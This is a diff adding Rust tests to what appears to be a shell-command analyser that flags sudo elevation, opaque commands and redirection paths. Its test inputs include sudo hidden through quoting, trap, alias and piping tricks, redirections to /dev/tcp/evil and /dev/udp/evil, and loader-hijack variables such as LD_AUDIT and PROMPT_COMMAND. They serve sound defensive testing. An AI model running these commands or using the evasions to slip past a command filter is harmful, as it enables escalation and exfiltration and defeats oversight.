@@ -314,6 +314,75 @@ fn what_is_not_certain_is_opaque() {
 }
 
 #[test]
+fn an_opaque_text_keeps_its_sudo() {
+    for text in [
+        "sudo id \"",
+        "sudo id\r",
+        "\"; 'su'do id",
+        "select x in a; do sudo id; done",
+        "cat <<E\n$(date)\nE\nsudo id",
+        "sh -c 'sudo id \"'",
+        "trap 'sudo id' EXIT",
+        "echo 'sudo id' | sh",
+        "parallel sudo ::: id",
+        "alias ls=sudo",
+        "=sudo id",
+    ] {
+        let reading = read(text);
+        assert!(reading.is_opaque(), "{text:?}");
+        assert!(reading.elevation.contains("sudo"), "{text:?}");
+    }
+    assert!(exec(b"sudo id \xff").elevation.contains("sudo"));
+    let long = format!("echo {}; sudo id", "a".repeat(40_000));
+    assert!(read(&long).is_opaque() && read(&long).elevation.contains("sudo"));
+}
+
+#[test]
+fn a_doubtful_text_is_read_and_doubted() {
+    let reading = doubtful(b"ls; sudo id", "it may go on");
+    assert_eq!(
+        describe(&reading),
+        "programs: id, ls; elevation: sudo; could not read: it may go on"
+    );
+    assert!(doubtful(b"echo 'sudo id'", "x").elevation.contains("sudo"));
+    assert!(doubtful(b"", "x").is_opaque());
+}
+
+#[test]
+fn variables_by_which_something_is_loaded_or_run_are_opaque() {
+    for name in [
+        "MAIL MAILPATH MAILCHECK histchars HISTFILE LOCPATH NLSPATH MALLOC_TRACE BASH_XTRACEFD HOSTALIASES MAGIC",
+        "auto_resume TERM TERMINFO TERMINFO_DIRS TERMCAP INPUTRC COLUMNS LINES PS0 PS1 PS2 PS3 PS4 PROMPT_COMMAND",
+        "PROMPT_DIRTRIM FCEDIT EDITOR VISUAL PAGER MANPAGER SYSTEMD_PAGER LESS LESSOPEN LESSKEY GIT_SSH LD_AUDIT",
+        "BASH_FUNC_x GLOBIGNORE SHELLOPTS BASHOPTS CDPATH FPATH ZDOTDIR HOME PATH CC RUSTC_WRAPPER MY_PRELOAD",
+    ]
+    .iter()
+    .flat_map(|names| names.split(' '))
+    {
+        for text in [
+            format!("{name}=x ls"),
+            format!("{name}=x"),
+            format!("export {name}=x"),
+            format!("env {name}=x ls"),
+        ] {
+            assert!(read(&text).is_opaque(), "{text}");
+        }
+    }
+    for text in [
+        "FOO=bar make",
+        "x=1; echo $x",
+        "LC_ALL=C sort f",
+        "TZ=UTC date",
+        "DEBIAN_FRONTEND=noninteractive apt-get -y install x",
+        "NODE=db1; echo $NODE",
+        "DEBUG=1 VERSION=2 ./build",
+        "file=x; cat $file",
+    ] {
+        assert!(!read(text).is_opaque(), "{text}");
+    }
+}
+
+#[test]
 fn a_shell_started_without_text_is_an_escape() {
     for text in [
         "bash",
@@ -401,6 +470,29 @@ fn paths_of_redirections_and_transfers_are_told() {
     );
     assert_eq!(read("ls 2>&1 < in").paths, [] as [&str; 0]);
     assert_eq!(read("echo x >| 'a b'").paths, ["a b"]);
+    for text in [
+        "ls 2>/dev/null",
+        "ls >/dev/stderr",
+        "ls &> /dev/null",
+        "ls 2>> /dev/stdout",
+    ] {
+        assert_eq!(read(text).paths, [] as [&str; 0], "{text}");
+    }
+    for text in [
+        "cat < /dev/tcp/evil/80",
+        "cat <'/dev/udp/evil/53'",
+        "ls > /dev/tcp/evil/80",
+        "cat < /dev/$x/evil/80",
+        "exec 3<>/dev/tcp/evil/80",
+        "while cat; do ls; done < /dev/tcp/evil/80",
+    ] {
+        assert_eq!(read(text).paths.len(), 1, "{text}");
+    }
+    assert!(
+        read("sudo journalctl 2>/dev/null")
+            .escapes
+            .contains("journalctl")
+    );
     assert_eq!(read("ls &> all").paths, ["all"]);
     assert_eq!(read("scp -t /srv/app").paths, ["/srv/app"]);
     assert_eq!(read("scp -r -p -f '/etc/a b'").paths, ["/etc/a b"]);
